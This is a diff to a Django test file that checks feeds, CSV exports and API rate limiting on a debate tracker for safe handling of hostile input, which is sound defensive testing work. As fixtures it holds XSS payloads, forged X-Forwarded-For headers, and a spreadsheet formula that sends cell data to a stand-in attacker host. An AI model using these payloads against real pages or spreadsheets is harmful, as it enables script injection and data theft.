@@ -4,9 +4,11 @@ import csv
 import datetime
 import io
 import json
+from collections import Counter
 
 import feedparser
 import pytest
+from django.core.cache import cache
 from django.core.management import call_command
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
@@ -55,7 +57,8 @@ def world(db):
 
 
 @pytest.mark.parametrize("url", ["/debates/airspace/feed/", "/actors/estonia/feed/"])
-def test_atom_feeds_parse_cleanly_and_hold_no_drafts(client, world, url):
+def test_atom_feeds_parse_cleanly_and_hold_no_drafts(client, world, url, settings):
+    settings.TRACKER_SITE_URL = "https://tracker.example"
     response = client.get(url)
     assert response["Content-Type"].startswith("application/atom+xml")
     parsed = feedparser.parse(response.content)
@@ -66,7 +69,7 @@ def test_atom_feeds_parse_cleanly_and_hold_no_drafts(client, world, url):
     assert any("moved from −1 to +1" in title for title in titles)
     assert any(title.startswith("Retracted: Estonia") for title in titles)
     assert all(
-        entry.link.startswith("http://localhost/debates/airspace/#position-")
+        entry.link.startswith("https://tracker.example/debates/airspace/#position-")
         for entry in parsed.entries
     )
 
@@ -85,7 +88,7 @@ def test_the_debate_csv_has_a_row_per_evidence_and_defuses_formulas(client, worl
     later = next(row for row in rows if row["summary"] == "LATER")
     assert later["attribution_chain"].endswith("citing Financial Times, citing four NATO officials")
     assert later["quote"].startswith("'=HYPERLINK")
-    assert later["stance"] == "+1"
+    assert later["stance"] == "1"
 
 
 def test_the_json_exports_nest_evidence_and_hold_no_drafts(client, world):
@@ -231,3 +234,91 @@ def test_api_list_queries_do_not_grow_with_rows(client, db):
     add(180)
     large = {url: count(url) for url in small}
     assert small == large
+
+
+@pytest.mark.parametrize("url", ["/debates/airspace/feed/", "/actors/estonia/feed/"])
+def test_feed_summaries_reach_readers_as_text_not_markup(client, world, url):
+    debate, estonia = world
+    f.PositionFactory(
+        debate=debate, actor=estonia, stance=1, summary="<script>alert(1)</script> & more",
+        status="retracted", retracted_at=timezone.now(),
+        retraction_reason="<img src=x onerror=alert(2)>",
+    )  # fmt: skip
+    response = client.get(url)
+    assert b"<script>" not in response.content
+    parsed = feedparser.parse(response.content)
+    assert not parsed.bozo, parsed.get("bozo_exception")
+    summaries = [entry.summary for entry in parsed.entries]
+    assert "<script>alert(1)</script> & more (Retracted: <img src=x onerror=alert(2)>)" in summaries
+    assert {entry.summary_detail.type for entry in parsed.entries} == {"text/plain"}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("url", ["/export/debates/airspace.csv", "/export/positions.csv"])
+def test_every_text_cell_of_the_csv_is_defused_and_numbers_stay_numbers(client, world, url):
+    debate, _ = world
+    actor = f.ActorFactory(name=FORMULA, slug="formula", country="")
+    proposal = f.ProposalFactory(debate=debate, title="+SUM(1,1)", slug="plus", rung=3)
+    f.PositionFactory(
+        debate=debate, actor=actor, proposal=proposal, support="support", stance=-1,
+        summary="-2+3", status="retracted", retracted_at=timezone.now(),
+        retraction_reason="@SUM(A1:A9)",
+    )  # fmt: skip
+    f.PositionFactory(debate=debate, actor=actor, stance=-2, summary="\t=1+1")
+    f.PositionFactory(debate=debate, actor=actor, stance=0, summary="\r=1+1")
+    rows = [
+        row
+        for row in csv.DictReader(io.StringIO(client.get(url).content.decode()))
+        if row["actor"] != "Estonia"
+    ]
+    assert len(rows) == 3
+    retracted = next(row for row in rows if row["proposal"])
+    assert retracted["actor"] == "'" + FORMULA
+    assert retracted["proposal"] == "'+SUM(1,1)"
+    assert retracted["summary"] == "'-2+3"
+    assert retracted["retraction_reason"] == "'@SUM(A1:A9)"
+    assert retracted["stance"] == "-1"
+    assert retracted["proposal_rung"] == "3"
+    assert sorted(row["summary"] for row in rows) == ["'\t=1+1", "'\r=1+1", "'-2+3"]
+    assert sorted(row["stance"] for row in rows) == ["-1", "-2", "0"]
+
+
+def api_codes(client, forwarded_for):
+    from rest_framework.throttling import AnonRateThrottle
+
+    AnonRateThrottle.THROTTLE_RATES = {"anon": "100/minute"}
+    try:
+        return Counter(
+            client.get("/api/v1/actors/", HTTP_X_FORWARDED_FOR=forwarded_for(n)).status_code
+            for n in range(400)
+        )
+    finally:
+        AnonRateThrottle.THROTTLE_RATES = {"anon": "120/minute"}
+
+
+def test_a_forged_forwarded_for_does_not_reset_the_rate_limit(client, world):
+    assert api_codes(client, lambda n: f"198.51.100.{n % 250}") == {200: 100, 429: 300}
+
+
+def test_behind_one_proxy_the_right_most_forwarded_address_is_the_client(client, world, settings):
+    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "NUM_PROXIES": 1}
+    same_client = api_codes(client, lambda n: f"198.51.100.{n % 250}, 203.0.113.7")
+    assert same_client == {200: 100, 429: 300}
+    cache.clear()
+    many_clients = api_codes(client, lambda n: f"203.0.113.7, 198.51.100.{n % 200}")
+    assert many_clients == {200: 400}
+
+
+def test_the_proxy_count_sets_both_lockouts_and_the_rate_limit(tmp_path):
+    from .test_settings import run_settings
+
+    code = (
+        "print(settings.REST_FRAMEWORK['NUM_PROXIES'], settings.AXES_IPWARE_PROXY_COUNT,"
+        " settings.AXES_IPWARE_META_PRECEDENCE_ORDER[0])"
+    )
+    behind_one = run_settings(tmp_path, code=code, DEBUG="1", TRUSTED_PROXY_COUNT="1")
+    assert behind_one.stdout.split() == ["1", "1", "HTTP_X_FORWARDED_FOR"], behind_one.stderr
+    direct = run_settings(tmp_path, code=code, DEBUG="1")
+    assert direct.stdout.split() == ["0", "None", "REMOTE_ADDR"], direct.stderr
